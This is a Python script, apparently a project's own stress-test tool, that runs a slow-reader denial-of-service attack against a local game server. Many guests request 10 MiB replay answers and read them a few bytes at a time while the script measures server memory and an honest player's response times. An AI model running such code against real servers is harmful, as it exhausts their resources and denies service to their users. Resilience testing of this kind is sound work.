"""Read answers very slowly: many guests of one address request replays whose answers take 10 MiB, and read a few bytes
per second. Meanwhile another guest plays and repeatedly requests the replay of a short record. Then the attack repeats
from eight addresses. The tool reports how many answers are still waiting, and the memory of the server.

    python -m tools.attacks.slow_readers --seconds 80
"""

from __future__ import annotations

import asyncio
import json
import select
import socket
import threading
import time
import urllib.error
from contextlib import suppress

from tools.attacks.victim import Guest, Target, Victim, answer_times, connect_from_elsewhere, run, summary

GUESTS = 60
LETTERS = 199_000
SHORT = "variant argentino\n= 0-0\n"
MESSAGE_INTERVAL = 0.5  # seconds between two requests of a guest
HONEST = 6.0  # seconds between two replays of the honest guest: twelve a minute are allowed
LEAST = 4096  # bytes: the size of a receive buffer, and of a read


def long_record() -> str:
    """Return a record whose replay is an answer of 10 MiB."""
    head = "variant argentino\nplayers 6\ndeal 6\n"
    part = "1 sena-tres\n"
    return head + part * ((LETTERS - len(head)) // len(part))


def request_replay(served: Target, guest: Guest, address: str, record: str) -> socket.socket:
    """Request a replay from an address, with a small receive buffer."""
    body = json.dumps({"text": record}).encode()
    head = f"POST /api/replay HTTP/1.1\r\nHost: localhost\r\nCookie: {guest.cookies}\r\n"
    head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    line = connect_from_elsewhere(served, address, LEAST)
    line.sendall(head.encode() + body)
    return line


class SlowReaders:
    """Guests at `addresses` addresses who request long answers and read them slowly."""

    def __init__(self, served: Victim, guests: list[Guest], addresses: int, until: float) -> None:
        self._served, self._until = served, until
        self._record = long_record()
        self._held: list[socket.socket] = []
        self.answered = self.refused = 0
        self.peak = served.mebibytes
        self._threads = [
            threading.Thread(target=self._ask, args=(guest, f"127.0.0.{2 + number % addresses}"), daemon=True)
            for number, guest in enumerate(guests)
        ]
        self._threads.append(threading.Thread(target=self._read, daemon=True))
        for thread in self._threads:
            thread.start()

    def _ask(self, guest: Guest, address: str) -> None:
        while time.monotonic() < self._until:
            with suppress(OSError):
                line = request_replay(self._served, guest, address, self._record)
                if b"200" in line.recv(12):
                    self.answered += 1
                    self._held.append(line)
                else:
                    self.refused += 1
                    line.close()
            time.sleep(MESSAGE_INTERVAL)

    def _read(self) -> None:
        """Read a little of every answer each second, so that the server does not take the clients for dead."""
        while time.monotonic() < self._until:
            for line in select.select(list(self._held), [], [], 0)[0]:
                with suppress(OSError):
                    if line.recv(LEAST):
                        continue
                self._held.remove(line)
                line.close()
            self.peak = max(self.peak, self._served.mebibytes)
            time.sleep(1)

    def close(self) -> int:
        """Wait for the end of the attack. Return the number of answers that are not read to their end."""
        for thread in self._threads:
            thread.join()
        waiting = len(self._held)
        for line in self._held:
            line.close()
        return waiting


def replay_again_and_again(guest: Guest, until: float) -> str:
    accepted, refused = 0, 0
    while time.monotonic() < until:
        try:
            guest.ask("/api/replay", {"text": SHORT})
            accepted += 1
        except urllib.error.HTTPError as error:
            error.close()
            refused += 1
        time.sleep(HONEST)
    return f"of the player's records {accepted} were replayed and {refused} refused"


async def siege(served: Victim, honest: Guest, guests: list[Guest], addresses: int, seconds: float) -> None:
    table, before, until = honest.open_table(), served.mebibytes, time.monotonic() + seconds
    readers = SlowReaders(served, guests, addresses, until)
    replaying = asyncio.create_task(asyncio.to_thread(replay_again_and_again, honest, until))
    times = await answer_times(served, honest, table, seconds)
    replayed = await replaying
    waiting = await asyncio.to_thread(readers.close)
    print(f"{addresses} addresses: {summary(times)}; {replayed}")
    print(f"  {readers.answered} long answers began, {readers.refused} were refused, {waiting} waited in the end")
    print(f"  {before:.0f} MiB before, {readers.peak:.0f} MiB at most", flush=True)


async def attack(served: Victim, seconds: float) -> None:
    """Attack from one address, then from eight, each for half of the time."""
    honest = Guest(served.address)
    guests = [Guest(served.address) for _guest in range(GUESTS)]
    for addresses in (1, 8):
        await siege(served, honest, guests, addresses, seconds / 2)


if __name__ == "__main__":
    run(attack, __doc__, seconds=80)
